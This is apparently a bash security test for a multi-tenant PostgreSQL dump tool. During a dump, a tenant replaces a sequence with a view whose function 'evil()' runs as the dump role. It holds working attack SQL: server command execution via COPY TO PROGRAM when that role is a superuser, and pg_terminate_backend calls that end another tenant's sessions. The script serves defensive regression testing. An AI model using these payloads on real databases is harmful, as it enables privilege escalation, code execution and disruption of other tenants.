#!/usr/bin/env bash
# E-2 (S-05): a sequence replaced by a view while the dump runs: the view's function runs as the dump role.
# Right: the dump calls nothing of the tenant and ends with SchemaChanged.
# shellcheck disable=SC2002,SC2005,SC2010,SC2015,SC2028,SC2034,SC2086,SC2094,SC2116,SC2155,SC1010
# shellcheck source=tests/cases/lib.sh
. "$(dirname "$0")/../lib.sh"
setup
as acme t -d acme -c "CREATE SEQUENCE s; CREATE TABLE big AS SELECT g, repeat(md5(g::text), 40) p FROM generate_series(1,30000) g"
MARK=$(mktemp -u /tmp/sennight-owned-2.XXXXXX)
trick() { as acme t -d acme <<SQL
CREATE OR REPLACE FUNCTION evil() RETURNS bigint LANGUAGE plpgsql AS \$\$ BEGIN
  RAISE LOG 'OWNED-2 as % super=% read_only=%', current_user, current_setting('is_superuser'), current_setting('transaction_read_only');
  IF current_setting('is_superuser') = 'on' THEN EXECUTE \$c\$COPY (SELECT 1) TO PROGRAM 'id >$MARK'\$c\$; END IF;
  RETURN 1; END \$\$;
DROP SEQUENCE s; CREATE VIEW s AS SELECT public.evil() AS last_value, true AS is_called;
SQL
}
once() { # CREDS NAME
  local n; n=$(calls OWNED-2)
  say "dump by $1; the sequence becomes a view after 4 s"
  dump acme "$1" ',"maxBytesPerSecond":1500000' & p=$!
  sleep 4; trick
  wait $p || echo "rc=$?"
  outcome "sequence replaced by a view, dump by $2" "$(who OWNED-2 "$n")"
}
once dump "the dump role"
echo "--- what else can evil() do in this READ ONLY transaction? end the same role's other sessions:"
as acme t -d acme -c "DROP VIEW s; CREATE SEQUENCE s" 
as acme t -d acme <<'SQL'
CREATE OR REPLACE FUNCTION evil() RETURNS bigint LANGUAGE plpgsql AS $$ DECLARE r record; BEGIN
  FOR r IN SELECT pid, datname, pg_catalog.pg_terminate_backend(pid) AS ended FROM pg_catalog.pg_stat_activity WHERE usename = current_user AND datname = 'bcorp' LOOP
    RAISE LOG 'OWNED-2 ended % of % by %: %', r.pid, r.datname, current_user, r.ended; END LOOP; RETURN 1; END $$;
SQL
(as sennight_dump d -d bcorp -c "SELECT pg_sleep(60)" >/dev/null 2>bcorp.err || true) & b=$!
dump acme dump ',"maxBytesPerSecond":1500000' & p=$!
sleep 4; as acme t -d acme -c "DROP SEQUENCE s; CREATE VIEW s AS SELECT public.evil() AS last_value, true AS is_called"
wait $p || echo "rc=$?"; wait $b || true
echo "a session of sennight_dump in bcorp (stands for bcorp's running dump) saw: $(cat bcorp.err)"
held "sessions of the dump role for another tenant" ended test "$(calls 'OWNED-2 ended')" = 0
as acme t -d acme -c "DROP VIEW s; CREATE SEQUENCE s"
say "stronger: the dump role is a superuser"
once super "a superuser"
held "program on the server" "ran" test ! -e "$MARK"; rm -f "$MARK"
